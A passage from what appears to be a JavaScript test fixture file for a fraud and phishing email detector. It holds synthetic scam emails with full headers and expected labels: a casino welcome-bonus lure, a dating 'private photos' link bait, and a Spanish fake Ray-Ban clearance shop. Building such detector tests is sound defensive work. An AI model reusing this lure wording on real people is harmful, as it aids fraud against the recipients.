            'Congratulations Tony! Your account was credited with a 500% welcome bonus up to $2,500 plus 200 FREE SPINS on Book of Dead. No deposit verification, instant withdrawals!',
            { button: 'CLAIM MY BONUS NOW', href: 'https://royalspin-bonus.casino/claim?uid=77120' },
            { small: 'Offer expires at midnight. 18+. Gamble responsibly.' },
          ],
          { htmlOnly: true },
        ),
      }),
    ),
  },
  {
    // Dating lure: only a subject and a link.
    name: 'Dating: subject-only "Anna (28) sent you 3 private photos" with a bare link',
    lang: 'en',
    lure: 'dating',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Anna <anna.privatechat@lovely-meetups.online>',
      to: 'chris.walker88@yahoo.com',
      subject: 'Anna (28) sent you 3 private photos - 2 km from you',
      date: 'Sun, 27 Jul 2025 23:11:48 +0000',
      messageId: '20250727231148.6f1a@lovely-meetups.online',
      dkim: ['lovely-meetups.online:default'],
      relay: 'mail.lovely-meetups.online [203.0.113.210]',
      auth: THROWAWAY,
      body: plain('https://lovely-meetups.online/m/anna28?c=7712'),
    }),
  },
  {
    // Fake shop in Spanish, through SendGrid, on a throw-away domain.
    name: 'Tienda falsa: "Ray-Ban al 90 % de descuento, liquidación por cierre" a través de SendGrid',
    lang: 'es',
    lure: 'shop',
    expect: ['fraud', 'phishing'],
    todo: "spam/low: sender_domain_suspicious_tld, link_suspicious_tld, auth_results_missing, content_bulk_marketing; a brand (Ray-Ban) sold at 90% off 'liquidación por cierre' on a .shop domain that is not the brand's",
    raw: mail({
      from: 'Ray-Ban Outlet <ofertas@rayban-outlet-liquidacion.shop>',
      to: 'carmen.lopez.vega@hotmail.es',
      subject: '¡Liquidación total! Ray-Ban desde 19,90 € - solo hoy',
      date: 'Sun, 9 Nov 2025 10:30:00 +0100',
      messageId: 'aB3cD5eF7gH9iJ1kL3mN@geopod-ismtpd-11',
      dkim: ['rayban-outlet-liquidacion.shop:s1', 'sendgrid.net:smtpapi'],
      returnPath: 'bounces+51002291-9e1b-carmen.lopez.vega=hotmail.es@em7712.rayban-outlet-liquidacion.shop',
      relay: 'o3.ptr8812.rayban-outlet-liquidacion.shop [149.72.88.12]',
      auth: THROWAWAY,
      headers: sendgridHeaders('aB3cD5eF7gH9iJ1kL3mNoP5qR7sT9uV1wX3yZ5a'),
      body: document(
        [
          { heading: 'LIQUIDACIÓN POR CIERRE' },
          'Cerramos nuestra tienda en España y liquidamos todo el stock de gafas Ray-Ban originales con hasta un 90 % de descuento. Envío gratis y pago seguro.',
          {
            rows: [
              ['Aviator Classic', '19,90 € (antes 169 €)'],
              ['Wayfarer', '21,90 € (antes 159 €)'],
              ['Clubmaster', '22,90 € (antes 179 €)'],
            ],
          },
          { button: 'Comprar ahora', href: 'https://rayban-outlet-liquidacion.shop/es/ofertas' },
          { small: 'Oferta válida solo hoy o hasta agotar existencias.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
];
